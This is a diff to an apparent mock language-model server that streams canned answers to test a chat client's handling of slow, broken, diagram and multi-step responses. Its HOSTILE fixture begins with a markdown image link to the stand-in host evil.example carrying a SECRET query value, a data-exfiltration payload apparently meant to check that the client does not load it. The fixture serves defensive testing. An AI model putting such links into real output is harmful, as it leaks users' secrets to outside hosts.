@@ -3,13 +3,14 @@
  *
  * It lists two models, refuses one wrong key and counts to ten when that is asked for.
  *
- * A question with SLOW gets 100 pieces a second for half a minute; one with HOSTILE an answer that
- * tries to load and run things; one with DIAGRAM drawings and code; one with BROKEN an answer whose connection breaks; one with PARTS a
- * plan and two helpers, which wait at first so that they can be seen at work.
+ * A question with SLOW gets 100 pieces a second until it is stopped, two minutes at most; one with
+ * HOSTILE an answer that tries to load and run things; one with DIAGRAM drawings and code; one with
+ * BROKEN an answer whose connection breaks; one with PARTS a plan and two helpers.
  */
 
 import { createServer } from 'node:http';
 import { setTimeout as sleep } from 'node:timers/promises';
+import { Gate } from './gate.mjs';
 
 const ANSWER = `\`Cart.total\` adds up what is in the cart and converts it **once**, at the end:
 
@@ -49,8 +50,6 @@ const LOOKS = [
   ['search_files', { query: 'round_cents' }],
   ['read_file', { path: 'shop/currency.py' }],
 ];
-
-const HELPER_PAUSE_MS = 1500;
 
 const HOSTILE = `![logo](https://evil.example/pixel.png?q=SECRET)
 
@@ -101,6 +100,7 @@ const TASKS = [
 
 export async function startModel() {
   const requests = [];
+  const gate = new Gate();
   const server = createServer((request, response) => {
     let body = '';
     request.on('data', (piece) => (body += piece));
@@ -112,13 +112,14 @@ export async function startModel() {
       const record = { headers: request.headers, body: parsed, wasCut: false };
       requests.push(record);
       response.on('close', () => (record.wasCut = !response.writableFinished));
-      void reply(parsed.messages, response);
+      void reply(parsed.messages, response, gate);
     });
   });
   await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
   return {
     url: `http://127.0.0.1:${server.address().port}/v1`,
     requests,
+    hold: (look) => gate.hold(look),
     stop: () =>
       new Promise((resolve) => {
         server.close(resolve);
@@ -143,36 +144,37 @@ function refuseOrList(request, response) {
   return false;
 }
 
-async function reply(messages, response) {
+async function reply(messages, response, gate) {
   response.writeHead(200, { 'Content-Type': 'text/event-stream' });
   const send = (delta, finish = null) => {
     const choices = [{ index: 0, delta, finish_reason: finish }];
     response.write(`data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 0, model: 'm', choices })}\n\n`);
   };
+  const say = (text) => gate.say(text.match(/[\s\S]{1,6}/g), 10, send);
   const question = JSON.stringify(messages.filter((each) => each.role === 'user').at(-1));
   if (question.includes('SLOW')) {
-    for (let i = 0; i < 3000 && !response.destroyed; i += 1) {
+    for (let i = 0; i < 12_000 && !response.destroyed; i += 1) {
       send({ content: i % 12 === 11 ? `word ${i}.\n\n` : `word ${i} ` });
       await sleep(10);
     }
   } else if (question.includes('Count from 1 to 10')) {
-    await sendSlowly('1 2 3 4 5 6 7 8 9 10', send);
+    await say('1 2 3 4 5 6 7 8 9 10');
   } else if (question.includes('HOSTILE')) {
-    await sendSlowly(HOSTILE, send);
+    await say(HOSTILE);
   } else if (question.includes('DIAGRAM')) {
-    await sendSlowly(DIAGRAM, send);
+    await say(DIAGRAM);
   } else if (question.includes('BROKEN')) {
-    await sendSlowly(ANSWER.slice(0, 120), send);
+    await say(ANSWER.slice(0, 120));
     response.destroy();
     return;
   } else if (messages[0].content.includes('You are a helper here')) {
-    await help(messages, send);
+    await help(messages, send, say);
   } else if (question.includes('PARTS')) {
-    await workInParts(messages, send);
+    await workInParts(messages, send, say);
   } else if (messages.at(-1).role === 'tool') {
     // What was found for the question may be in another language than it.
     const asked = question.replaceAll(/<material .*?<\/material \w+>/g, '');
-    await sendSlowly(/[\u4e00-\u9fff]{2}/.test(asked) ? ANSWER_ZH : ANSWER, send);
+    await say(/[\u4e00-\u9fff]{2}/.test(asked) ? ANSWER_ZH : ANSWER);
   } else {
     await sleep(300);
     sendCalls(LOOKS, send);
@@ -184,18 +186,17 @@ async function reply(messages, response) {
 }
 
 /** Read the file of its task, then report. */
-async function help(messages, send) {
+async function help(messages, send, say) {
   const [, path, report] = TASKS.find(([task]) => messages[1].content.includes(task));
   if (messages.at(-1).role === 'tool') {
-    await sendSlowly(report, send);
+    await say(report);
   } else {
     sendCalls([['read_file', { path }]], send);
   }
-  await sleep(HELPER_PAUSE_MS);
 }
 
 /** Plan and delegate, tick off, join. */
-async function workInParts(messages, send) {
+async function workInParts(messages, send, say) {
   const asked = messages.findLastIndex((each) => each.role === 'user');
   const nRounds = messages.slice(asked).filter((each) => each.tool_calls).length;
   const plan = (...states) => ['plan', { steps: STEPS.map((text, i) => ({ text, state: states[i] })) }];
@@ -205,7 +206,7 @@ async function workInParts(messages, send) {
   } else if (nRounds === 1) {
     sendCalls([plan('done', 'done')], send);
   } else {
-    await sendSlowly(JOINED, send);
+    await say(JOINED);
   }
 }
 
@@ -218,11 +219,4 @@ function sendCalls(calls, send) {
   }));
   send({ tool_calls });
   send({}, 'tool_calls');
-}
-
-async function sendSlowly(text, send) {
-  for (const piece of text.match(/[\s\S]{1,6}/g)) {
-    send({ content: piece });
-    await sleep(10);
-  }
 }
